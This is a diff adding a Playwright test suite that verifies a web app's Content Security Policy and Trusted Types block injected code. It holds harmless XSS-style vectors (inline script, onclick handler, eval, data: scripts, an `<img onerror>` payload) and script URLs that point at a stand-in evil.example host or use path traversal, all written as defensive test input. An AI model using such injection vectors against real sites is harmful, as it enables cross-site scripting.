@@ -1,0 +1,124 @@
+import type { Page } from '@playwright/test';
+import { test } from '../support/fronted.ts';
+import { expect } from '../support/journey.ts';
+import { addressOf, insideRows, openRows } from '../support/rows.ts';
+import { signIn } from '../support/steps.ts';
+
+interface Seen {
+  readonly violations: string[];
+  readonly policies: string[];
+  functions: number;
+}
+interface Policy {
+  createScriptURL(address: string): unknown;
+}
+declare global {
+  interface Window {
+    seen: Seen;
+    policyOfApp: Policy;
+  }
+}
+
+/** Writes down, from before the first script of every page: what was blocked, which policies were made, who made code of text. */
+const watch = (page: Page) =>
+  page.addInitScript(() => {
+    window.seen = { violations: [], policies: [], functions: 0 };
+    document.addEventListener('securitypolicyviolation', (event) => window.seen.violations.push(`${event.effectiveDirective} ${event.blockedURI}`));
+    const factory = (globalThis as unknown as { trustedTypes: { createPolicy(name: string, rules: object): Policy } }).trustedTypes;
+    const create = factory.createPolicy.bind(factory);
+    factory.createPolicy = (name, rules) => {
+      window.seen.policies.push(name);
+      window.policyOfApp = create(name, rules);
+      return window.policyOfApp;
+    };
+    const counted = { ofText: (made: unknown) => ((window.seen.functions += 1), made) };
+    window.Function = new Proxy(Function, {
+      apply: (target, self, given) => counted.ofText(Reflect.apply(target, self, given)),
+      construct: (target, given) => counted.ofText(Reflect.construct(target, given)) as object,
+    });
+  });
+const seen = (page: Page) => page.evaluate(() => window.seen);
+
+test('[S2] [S3] [S4] no screen, signed in or out, breaks the policy, makes another one or makes code of text', async ({ page, front }) => {
+  test.setTimeout(240_000);
+  await watch(page);
+  const walk = async (paths: readonly string[]) => {
+    for (const path of paths) {
+      await page.goto(path);
+      await expect(page.getByRole('heading', { level: 1 }).first(), path).toBeVisible();
+      const { violations, policies, functions } = await seen(page);
+      expect([path, violations, functions]).toEqual([path, [], 0]);
+      expect(policies.filter((name) => !['app-html', 'app-url'].includes(name))).toEqual([]);
+    }
+  };
+  await walk(openRows.filter(({ path }) => path !== '/session-timeout').map(addressOf));
+  await signIn(page);
+  await walk(insideRows.map(addressOf));
+  expect(front.arrived.filter(({ path }) => path.startsWith('/csp-report'))).toEqual([]);
+});
+
+test('[S2] planted code does not run: inline script, handler attribute, eval, data: script, innerHTML', async ({ page, quiet }) => {
+  quiet.allow(/Content Security Policy|Trusted ?Type|requires? 'Trusted|unsafe-eval|Executing inline|Loading the script/i);
+  await watch(page);
+  await page.goto('/login');
+  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
+  // A timer's turn has none of the rights that the test's own evaluation has.
+  const refused = await page.evaluate(
+    () =>
+      new Promise<string[]>((resolve) => {
+        const script = (fill: (made: HTMLScriptElement) => void) => () => {
+          const made = document.createElement('script');
+          fill(made);
+          document.body.append(made);
+        };
+        const run = 'document.title = "planted"';
+        const attempts: Record<string, () => unknown> = {
+          'inline script': script((made) => made.append(run)),
+          'inline text': script((made) => Object.assign(made, { textContent: run })),
+          'data script': script((made) => made.setAttribute('src', `data:text/javascript,${run}`)),
+          handler: () => {
+            const button = document.createElement('button');
+            button.setAttribute('onclick', run);
+            button.click();
+          },
+          eval: () => globalThis.eval(run),
+          innerHTML: () => Object.assign(document.createElement('div'), { innerHTML: `<img src=x onerror='${run}'>` }),
+          markup: () => document.body.insertAdjacentHTML('beforeend', `<img src=x onerror='${run}'>`),
+          worker: () => new Worker('https://evil.example/worker.js'),
+        };
+        setTimeout(() => {
+          const thrown = Object.entries(attempts).filter(([, attempt]) => {
+            const before = window.seen.violations.length;
+            try {
+              attempt();
+            } catch {
+              return true;
+            }
+            return window.seen.violations.length > before;
+          });
+          setTimeout(() => resolve(thrown.map(([name]) => name)), 500);
+        }, 0);
+      }),
+  );
+  expect(refused).toEqual(expect.arrayContaining(['inline text', 'data script', 'eval', 'innerHTML', 'markup', 'worker']));
+  expect((await seen(page)).violations.length).toBeGreaterThanOrEqual(8);
+  expect(await page.title()).not.toBe('planted');
+});
+
+test('[S3] only the two scripts of the app may be started from an address', async ({ page }) => {
+  await watch(page);
+  await page.goto('/login');
+  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
+  const passes = (address: string) =>
+    page.evaluate((wanted) => {
+      try {
+        return String(window.policyOfApp.createScriptURL(wanted)) === wanted;
+      } catch {
+        return false;
+      }
+    }, address);
+  expect(await passes('/sw.js')).toBe(true);
+  for (const foreign of ['https://evil.example/sw.js', '//evil.example/sw.js', '/sw.js/../uploads/sw.js', '/assets/index.js', 'data:text/javascript,1', 'blob:x']) {
+    expect([foreign, await passes(foreign)]).toEqual([foreign, false]);
+  }
+});
